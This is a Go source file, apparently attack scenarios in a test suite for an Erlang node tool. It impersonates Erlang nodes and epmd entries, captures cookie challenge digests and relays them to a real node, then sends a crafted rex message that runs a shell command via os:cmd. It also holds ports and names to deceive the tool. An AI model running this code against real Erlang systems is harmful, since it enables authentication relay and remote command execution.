//go:build attacks

package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// This file plays processes that look like Erlang nodes and are none. Each looks so by a holder: a
// process named beam.smp with a node's arguments that has the listening socket open. Its parent
// accepts the connections, so that the holder may be any program: a setuid one.

func init() {
	attacks["fakenode"] = playFakeNode
	attacks["vanishingnode"] = playVanishingNode
	attacks["silentnodes"] = playSilentNodes
	attacks["heldnames"] = playHeldNames
	testCommands["beam.smp"] = holdSocket
}

// holdSocket is the holder. It ends with its parent.
func holdSocket() {
	switch os.Getenv("HOLDER") {
	case "undumpable": // the files in /proc/PID are root's then
		unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0)
	case "saved": // of a setuid program: only the saved user is another
		syscall.Setresuid(mallory, mallory, -1)
	}
	io.Copy(io.Discard, os.Stdin)
}

// vmArgs are the arguments of a node, as erlexec makes them.
func vmArgs(name, home string) []string {
	const bin = "/usr/lib/erlang/erts/bin"
	return []string{bin + "/beam.smp", "--", "-root", "/usr/lib/erlang", "-bindir", bin,
		"-progname", "erl", "--", "-home", home, "--", "-noshell", "-noinput", "-sname", name}
}

// startHolder has a program hold the listener, as a node named so with that home. The program is
// named beam.smp.
func startHolder(program string, args []string, l *net.TCPListener) (io.Closer, error) {
	f, err := l.File()
	if err != nil {
		return nil, err
	}
	defer f.Close()
	cmd := &exec.Cmd{Path: program, Args: args, ExtraFiles: []*os.File{f}, Env: os.Environ()}
	stdin, err := cmd.StdinPipe()
	if err != nil {
		return nil, err
	}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	go cmd.Wait()
	return stdin, nil
}

// listenAsNode listens with the backlog of a node's socket: by that, beamrun distinguishes a node
// from other servers.
func listenAsNode(addr string) (*net.TCPListener, error) {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	tcp := l.(*net.TCPListener)
	raw, err := tcp.SyscallConn()
	if err != nil {
		return nil, err
	}
	control := raw.Control(func(fd uintptr) { err = syscall.Listen(int(fd), 128) })
	return tcp, errors.Join(control, err)
}

// fakeChallenge is the number for which a fake node wants a digest.
const fakeChallenge = 0xfedcba98

type fakeNode struct {
	name, digests string // the file that gets a line for each digest
	relay, run    string // the real node that is given the digest, and what its shell is to run
	halfClose     bool
}

// playFakeNode listens, asks whoever comes for the digest of a cookie, and writes it down or logs
// in with it.
func playFakeNode(args []string) error {
	var (
		f                                    = flag.NewFlagSet("fakenode", flag.ContinueOnError)
		n                                    fakeNode
		addr, holder, home, ready, epmd, tag string
		become                               int
		hold                                 time.Duration
	)
	f.StringVar(&n.name, "name", "evil", "")
	f.StringVar(&n.digests, "digests", "/tmp/digests", "")
	f.StringVar(&n.relay, "relay", "", "")
	f.StringVar(&n.run, "run", "", "")
	f.BoolVar(&n.halfClose, "halfclose", false, "")
	f.StringVar(&addr, "listen", "127.0.0.1:0", "")
	f.StringVar(&holder, "holder", "", "")
	f.StringVar(&home, "home", "/root", "")
	f.StringVar(&ready, "ready", "", "file that is made when it listens")
	f.StringVar(&epmd, "epmd", "", "where it registers its name")
	f.StringVar(&tag, "args", "", "arguments of the holder in place of a node's, by spaces")
	f.IntVar(&become, "become", 0, "user that it becomes when it listens")
	f.DurationVar(&hold, "hold", time.Second, "for how long it has the name in epmd")
	if err := f.Parse(args); err != nil {
		return err
	}
	var l *net.TCPListener
	for begin := time.Now(); ; { // somebody else may still have the port
		var err error
		if l, err = listenAsNode(addr); err == nil {
			break
		} else if !errors.Is(err, syscall.EADDRINUSE) || time.Since(begin) > 30*time.Second {
			return err
		}
		time.Sleep(time.Millisecond)
	}
	if become != 0 {
		err := errors.Join(syscall.Setgroups(nil), syscall.Setgid(become), syscall.Setuid(become))
		if err != nil {
			return err
		}
	}
	if holder != "" {
		vm := vmArgs(n.name, home)
		if tag != "" {
			vm = strings.Fields(tag)
		}
		if _, err := startHolder(holder, vm, l); err != nil {
			return err
		}
	}
	port := l.Addr().(*net.TCPAddr).Port
	if epmd != "" {
		if err := holdNames(epmd, []string{n.name}, port, hold); err != nil {
			return err
		}
	}
	if ready != "" {
		if err := os.WriteFile(ready, fmt.Append(nil, port), 0o644); err != nil {
			return err
		}
	}
	for {
		c, err := l.AcceptTCP()
		if err != nil {
			return err
		}
		go n.serve(c)
	}
}

func (n *fakeNode) serve(c *net.TCPConn) {
	defer c.Close()
	c.SetDeadline(time.Now().Add(20 * time.Second))
	hello := readPacket(c)
	if len(hello) == 0 {
		return
	}
	challenge := uint32(fakeChallenge)
	var real net.Conn
	if n.relay != "" {
		var err error
		if real, challenge, err = meetNode(n.relay, n.name+"@vm"); err != nil {
			fmt.Fprintln(os.Stderr, "relay:", err)
			return
		}
		defer real.Close()
	}
	writePacket(c, []byte("sok"))
	writePacket(c, challengeOf(hello[0], n.name+"@vm", challenge))
	if n.halfClose { // the socket is no longer in state ESTABLISHED, and hears all the same
		c.CloseWrite()
	}
	reply := readPacket(c)
	if len(reply) != 21 || reply[0] != 'r' {
		return
	}
	writeDown(n.digests, fmt.Sprintf("%s %d %x\n", n.name, challenge, reply[5:]))
	if real == nil {
		return
	}
	writePacket(real, reply) // the same answer is right there
	if ack := readPacket(real); len(ack) != 17 || ack[0] != 'a' {
		return
	}
	cast(real, n.name+"@vm", n.run)
	time.Sleep(time.Second) // the node ends the command when the connection ends
}

// writeDown adds a line to a file.
func writeDown(path, line string) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o666)
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		return
	}
	defer f.Close()
	io.WriteString(f, line)
}

func readPacket(c io.Reader) []byte {
	var size [2]byte
	if _, err := io.ReadFull(c, size[:]); err != nil {
		return nil
	}
	b := make([]byte, binary.BigEndian.Uint16(size[:]))
	if _, err := io.ReadFull(c, b); err != nil {
		return nil
	}
	return b
}

func writePacket(c io.Writer, b []byte) {
	c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...))
}

// distFlags are those that OTP 23 and later demand, and those of a visible node.
const distFlags = 0x1 | 0x4 | 0x10 | 0x80 | 0x100 | 0x200 | 0x400 | 0x800 |
	0x10000 | 0x20000 | 0x40000 | 0x1000000 | 0x2000000 | 0x400000000

// challengeOf is a node's second message, in the version of the other one's first.
func challengeOf(version byte, name string, challenge uint32) []byte {
	if version == 'n' {
		b := binary.BigEndian.AppendUint32([]byte{'n', 0, 5}, distFlags&0xffffffff)
		return append(binary.BigEndian.AppendUint32(b, challenge), name...)
	}
	b := binary.BigEndian.AppendUint64([]byte{'N'}, distFlags)
	b = binary.BigEndian.AppendUint32(b, challenge)
	b = binary.BigEndian.AppendUint32(b, 7) // creation
	b = binary.BigEndian.AppendUint16(b, uint16(len(name)))
	return append(b, name...)
}

// meetNode begins to log in to a real node, and returns its challenge.
func meetNode(addr, name string) (net.Conn, uint32, error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, 0, err
	}
	c.SetDeadline(time.Now().Add(20 * time.Second))
	hello := binary.BigEndian.AppendUint64([]byte{'N'}, distFlags)
	hello = binary.BigEndian.AppendUint32(hello, uint32(os.Getpid()))
	hello = binary.BigEndian.AppendUint16(hello, uint16(len(name)))
	writePacket(c, append(hello, name...))
	status, challenge := readPacket(c), readPacket(c)
	if !strings.HasPrefix(string(status), "sok") || len(challenge) < 19 || challenge[0] != 'N' {
		c.Close()
		return nil, 0, fmt.Errorf("%s: %q, %q", addr, status, challenge)
	}
	return c, binary.BigEndian.Uint32(challenge[9:]), nil
}

// cast has the node on the other end run a command of the shell: {'$gen_cast', {cast, os, cmd,
// [Command], user}} to rex.
func cast(c net.Conn, name, command string) {
	atom := func(b []byte, s string) []byte { return append(append(b, 119, byte(len(s))), s...) }
	tuple := func(b []byte, n int) []byte { return append(b, 104, byte(n)) }
	b := tuple([]byte{112, 131}, 4)
	b = append(b, 97, 6)               // REG_SEND
	b = atom(append(b, 88), name)      // our pid
	b = append(b, make([]byte, 12)...) // its number, serial and creation
	b[len(b)-9], b[len(b)-1] = 1, byte(os.Getpid())
	b = atom(atom(b, ""), "rex")
	b = tuple(append(b, 131), 2)
	b = tuple(atom(b, "$gen_cast"), 5)
	b = atom(atom(atom(b, "cast"), "os"), "cmd")
	b = append(b, 108, 0, 0, 0, 1, 107) // a list of one string
	b = append(binary.BigEndian.AppendUint16(b, uint16(len(command))), command...)
	b = atom(append(b, 106), "user")
	c.Write(append(binary.BigEndian.AppendUint32(nil, uint32(len(b))), b...))
}

// playVanishingNode is the victim's: it answers one question for its name, and by then it has no
// longer listened for a moment, in which somebody else takes its port.
func playVanishingNode(args []string) error {
	l, err := listenAsNode(args[1])
	if err != nil {
		return err
	}
	stdin, err := startHolder(args[2], vmArgs(args[0], args[3]), l)
	if err != nil {
		return err
	}
	if err := os.WriteFile(args[4], nil, 0o644); err != nil {
		return err
	}
	c, err := l.AcceptTCP()
	if err != nil {
		return err
	}
	hello := readPacket(c)
	stdin.Close() // the holder ends
	l.Close()
	time.Sleep(200 * time.Millisecond)
	writePacket(c, []byte("sok"))
	writePacket(c, challengeOf(hello[0], args[0]+"@vm", fakeChallenge))
	if reply := readPacket(c); len(reply) == 21 {
		writeDown("/tmp/own."+args[0],
			fmt.Sprintf("%s %d %x\n", args[0], uint32(fakeChallenge), reply[5:]))
	}
	select {} // a node that lives, and the socket is closed
}

// playSilentNodes are as many processes as args[0] says; each listens and says nothing. A line for
// each port that somebody connects to goes into the file args[2]. args[1] is the program that plays
// the node.
func playSilentNodes(args []string) error {
	var n int
	if _, err := fmt.Sscan(args[0], &n); err != nil {
		return err
	}
	var wg sync.WaitGroup
	for i := range n {
		l, err := listenAsNode("127.0.0.1:0")
		if err != nil {
			return err
		}
		vm := vmArgs(fmt.Sprintf("silent%03d", i), "/home/mallory")
		if _, err := startHolder(args[1], vm, l); err != nil {
			return err
		}
		wg.Go(func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				go io.Copy(io.Discard, c)
				writeDown(args[2], fmt.Sprintln(l.Addr().(*net.TCPAddr).Port))
			}
		})
	}
	if err := os.WriteFile(args[3], nil, 0o644); err != nil {
		return err
	}
	wg.Wait()
	return nil
}

// playHeldNames has names in epmd for a port that takes no connection and refuses none: a SYN for
// it gets no answer. It is "heldnames PREFIX COUNT HOLD TIMES READY": for that long, with a second
// between, that many times; the file is made when they are there.
func playHeldNames(args []string) error {
	var count, times int
	if _, err := fmt.Sscan(args[1], &count); err != nil {
		return err
	}
	hold, err := time.ParseDuration(args[2])
	if err != nil {
		return err
	}
	if _, err := fmt.Sscan(args[3], &times); err != nil {
		return err
	}
	port, err := listenDeaf()
	if err != nil {
		return err
	}
	for i := range times {
		names := make([]string, count)
		for j := range names {
			names[j] = fmt.Sprint(args[0], i, "_", j)
		}
		err := holdNames("127.0.0.1:4369", names, port, hold)
		if i == 0 {
			if err := errors.Join(err, os.WriteFile(args[4], nil, 0o644)); err != nil {
				return err
			}
		}
		time.Sleep(hold + time.Second) // epmd may be killed meanwhile
	}
	select {} // the port stays as it is
}

// listenDeaf has a port with a full queue: the kernel drops each further SYN.
func listenDeaf() (port int, err error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if err != nil {
		return 0, err
	}
	loopback := &syscall.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}
	if err := errors.Join(syscall.Bind(fd, loopback), syscall.Listen(fd, 0)); err != nil {
		return 0, err
	}
	sa, err := syscall.Getsockname(fd)
	if err != nil {
		return 0, err
	}
	port = sa.(*syscall.SockaddrInet4).Port
	for range 8 {
		c, err := net.DialTimeout("tcp", fmt.Sprint("127.0.0.1:", port), 100*time.Millisecond)
		if err != nil {
			return port, nil
		}
		deafConns = append(deafConns, c)
	}
	return 0, errors.New("its queue does not fill")
}

var deafConns []net.Conn

// holdNames registers the names at that port, and keeps them until the time is over.
func holdNames(epmd string, names []string, port int, hold time.Duration) error {
	var conns []net.Conn
	end := func() {
		for _, c := range conns {
			c.Close()
		}
	}
	for _, name := range names {
		c, err := net.DialTimeout("tcp", epmd, time.Second)
		if err != nil {
			end()
			return err
		}
		conns = append(conns, c)
		b := binary.BigEndian.AppendUint16([]byte{'x'}, uint16(port))
		b = append(b, 77, 0, 0, 6, 0, 5) // a node, TCP, versions 6 to 5
		b = append(binary.BigEndian.AppendUint16(b, uint16(len(name))), name...)
		writePacket(c, append(b, 0, 0))
		var answer [4]byte
		c.SetReadDeadline(time.Now().Add(time.Second))
		if _, err := io.ReadFull(c, answer[:]); err != nil || answer[1] != 0 {
			end()
			return fmt.Errorf("name %s: %v, %v", name, answer, err)
		}
	}
	time.AfterFunc(hold, end)
	return nil
}
